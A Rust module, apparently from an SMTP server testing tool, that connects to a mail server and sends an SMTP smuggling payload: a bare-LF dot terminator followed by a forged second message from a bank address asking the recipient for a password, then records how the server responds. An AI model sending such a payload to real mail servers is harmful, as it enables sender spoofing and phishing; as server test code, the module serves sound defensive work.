//! A caller who hides a second message inside the first.
//!
//! in:  the address of a server      out: what was said, and what the server made of it
//! law: nothing here uses our client: it would never write such a thing

use std::io;
use std::net::SocketAddr;

use mailwright::tokio::{Direction, Tap};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::recorder::Recorder;
use crate::transcript::{Turn, Voice};

/// A dot between lone LFs, then what should look like the next message of somebody else.
const SMUGGLED: &[u8] = b"Subject: hello\r\n\r\nNothing to see here.\n.\nMAIL FROM:<bank@smith.example>\r\n\
RCPT TO:<eva@smith.example>\r\nDATA\r\nSubject: your account\r\n\r\nPlease send us your password.\r\n.\r\n";

/// Tries to smuggle a message in.
pub async fn smuggle(server: SocketAddr) -> io::Result<Vec<Turn>> {
    let mut stream = TcpStream::connect(server).await?;
    let recorder = Recorder::plain();
    hear(&mut stream, &recorder).await?;
    for command in
        ["EHLO mail.doe.example", "MAIL FROM:<jane@doe.example>", "RCPT TO:<eva@smith.example>", "DATA"]
    {
        say(&mut stream, &recorder, format!("{command}\r\n").as_bytes()).await?;
        hear(&mut stream, &recorder).await?;
    }
    stream.write_all(SMUGGLED).await?;
    let mut turns = recorder.turns();
    for line in SMUGGLED.split_inclusive(|octet| *octet == b'\n') {
        match line.strip_suffix(b"\r\n") {
            Some(line) => turns.push(Turn::new(Voice::Caller, line)),
            None => turns.push(Turn::new(Voice::Caller, line)),
        }
        if line == b".\n" {
            turns.push(Turn::slip(
                "a dot between two lone LFs: some servers end the message here and obey what follows",
            ));
        }
    }
    let recorder = Recorder::plain();
    hear(&mut stream, &recorder).await?;
    say(&mut stream, &recorder, b"QUIT\r\n").await?;
    hear(&mut stream, &recorder).await?;
    turns.extend(recorder.turns());
    Ok(turns)
}

async fn say(stream: &mut TcpStream, recorder: &Recorder, octets: &[u8]) -> io::Result<()> {
    recorder.octets(Direction::Out, octets);
    stream.write_all(octets).await
}

/// Reads one reply with all its lines.
async fn hear(stream: &mut TcpStream, recorder: &Recorder) -> io::Result<()> {
    let mut reply = Vec::new();
    while !is_whole(&reply) {
        if stream.read_buf(&mut reply).await? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
    }
    recorder.octets(Direction::In, &reply);
    Ok(())
}

fn is_whole(reply: &[u8]) -> bool {
    let Some(lines) = reply.strip_suffix(b"\r\n") else { return false };
    lines.split(|octet| *octet == b'\n').next_back().is_some_and(|line| line.get(3) == Some(&b' '))
}
